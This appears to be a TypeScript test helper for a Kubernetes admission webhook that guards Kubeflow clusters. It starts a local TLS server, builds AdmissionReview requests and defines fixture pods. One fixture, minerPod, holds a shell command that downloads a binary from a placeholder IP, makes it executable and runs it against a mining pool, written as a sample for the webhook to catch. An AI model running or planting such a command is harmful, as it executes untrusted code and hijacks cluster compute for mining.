import { request, type RequestOptions } from 'node:https';
import type { TLSSocket } from 'node:tls';
import { DEFAULT_CONFIG } from '../../src/core/config-types.js';
import type { Rule } from '../../src/core/rule.js';
import type { K8sObject, ScannedObject } from '../../src/core/types.js';
import { newSnapshot } from '../../src/k8s/inventory.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { collectManifests } from '../../src/sources/manifest.js';
import { sharedPath } from '../../src/testing/shared.js';
import { generateCertificates, type WebhookCertificates } from '../../src/webhook/certs.js';
import type { JudgeContext } from '../../src/webhook/handler.js';
import { silentLogger, type Logger } from '../../src/webhook/logging.js';
import { WebhookMetrics } from '../../src/webhook/metrics.js';
import { WebhookServer } from '../../src/webhook/server.js';
import { DEFAULT_DECISION_SETTINGS, type DecisionSettings } from '../../src/webhook/settings.js';

/** A real webhook server on 127.0.0.1 with a fresh CA, and a client that trusts only that CA. */
export interface Running {
  readonly server: WebhookServer;
  readonly port: number;
  readonly certs: WebhookCertificates;
  readonly metrics: WebhookMetrics;
  post(body: string | Buffer, options?: { readonly path?: string; readonly method?: string }): Promise<Reply>;
  get(path: string): Promise<Reply>;
  close(): Promise<void>;
}

export interface Reply {
  readonly status: number;
  readonly text: string;
  readonly json: any; // eslint-disable-line @typescript-eslint/no-explicit-any -- replies are read field by field in assertions
  /** Serial number of the certificate the server presented on this connection. */
  readonly serial: string;
}

let stock: readonly ScannedObject[] | undefined;

/** The stock Kubeflow install's objects, read once per test file. */
export async function stockObjects(): Promise<readonly ScannedObject[]> {
  stock ??= (await collectManifests({ paths: [sharedPath('corpus', 'kubeflow', 'kubeflow-example-install.yaml')], cwd: process.cwd(), readStdin: async () => Buffer.alloc(0) })).objects;
  return stock;
}

export interface StartOptions {
  readonly objects?: readonly ScannedObject[];
  readonly settings?: Partial<DecisionSettings>;
  readonly rules?: readonly Rule[];
  readonly beforeJudge?: JudgeContext['beforeJudge'];
  readonly certFiles?: { readonly cert: string; readonly key: string; readonly intervalMs?: number };
  readonly certs?: WebhookCertificates;
  /** Where the server logs; silent unless a test reads the lines. */
  readonly logger?: Logger;
}

export async function startServer(options: StartOptions = {}): Promise<Running> {
  const certs = options.certs ?? (await generateCertificates({ service: 'kfguard-webhook', namespace: 'kfguard', extraNames: ['127.0.0.1'] }));
  const metrics = new WebhookMetrics();
  const server = new WebhookServer({
    tls: { cert: Buffer.from(certs.cert), key: Buffer.from(certs.key) },
    ...(options.certFiles ? { certFiles: options.certFiles } : {}),
    snapshotSource: 'test',
    context: {
      rules: options.rules ?? ALL_RULES,
      config: DEFAULT_CONFIG,
      settings: { ...DEFAULT_DECISION_SETTINGS, ...options.settings },
      metrics,
      logger: options.logger ?? silentLogger(),
      ...(options.beforeJudge ? { beforeJudge: options.beforeJudge } : {}),
    },
  });
  const { port } = await server.listen(0, '127.0.0.1');
  const snapshot = newSnapshot();
  const objects = options.objects ?? (await stockObjects());
  for (const scanned of objects) snapshot.upsert(scanned);
  server.setSnapshot({ snapshot, objects: objects.length, problems: [], loadedAt: Date.now() });
  const call = (method: string, path: string, body?: string | Buffer): Promise<Reply> => send(port, certs.caCert, method, path, body);
  return {
    server,
    port,
    certs,
    metrics,
    post: (body, o = {}) => call(o.method ?? 'POST', o.path ?? '/validate', body),
    get: (path) => call('GET', path),
    close: () => server.drain(1_000),
  };
}

/** One request on a new connection (agent: false), so each sees the certificate served at that moment. */
export function send(port: number, ca: string, method: string, path: string, body?: string | Buffer): Promise<Reply> {
  const options: RequestOptions = { host: '127.0.0.1', port, method, path, ca, agent: false, servername: 'kfguard-webhook.kfguard.svc', headers: { 'content-type': 'application/json' } };
  return new Promise((resolve, reject) => {
    const req = request(options, (res) => {
      const serial = (res.socket as TLSSocket).getPeerCertificate().serialNumber;
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: unknown;
        try {
          json = JSON.parse(text);
        } catch {
          json = undefined;
        }
        resolve({ status: res.statusCode ?? 0, text, json, serial });
      });
    });
    req.on('error', reject);
    req.end(body);
  });
}

let uid = 0;

/** An admission.k8s.io/v1 AdmissionReview for `object`, as the API server sends it. */
export function review(object: K8sObject, overrides: Record<string, unknown> = {}): string {
  const [group, version] = object.apiVersion.includes('/') ? object.apiVersion.split('/') : ['', object.apiVersion];
  uid += 1;
  return JSON.stringify({
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: `test-${uid}`,
      kind: { group, version, kind: object.kind },
      resource: { group, version, resource: `${object.kind.toLowerCase()}s` },
      name: object.metadata?.name,
      namespace: object.metadata?.namespace,
      operation: 'CREATE',
      userInfo: { username: 'alice@example.com', groups: ['system:authenticated'] },
      object,
      dryRun: false,
      ...overrides,
    },
  });
}

export function minerPod(annotations: Record<string, string> = {}): K8sObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'train-x7k2p', namespace: 'kubeflow-user-example-com', annotations },
    spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest-gpu', command: ['sh', '-c', 'curl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://pool.example.com:3333'] }] },
  };
}

export function pipelinePod(): K8sObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'train-pipeline-system-container-impl-1', namespace: 'kubeflow-user-example-com', labels: { 'workflows.argoproj.io/workflow': 'train-pipeline' } },
    spec: {
      containers: [{ name: 'main', image: 'python:3.9', command: ['sh', '-c'], args: ['python3 -m pip install --quiet kfp==2.7.0 && python3 -m kfp.dsl.executor_main'] }],
    },
  };
}
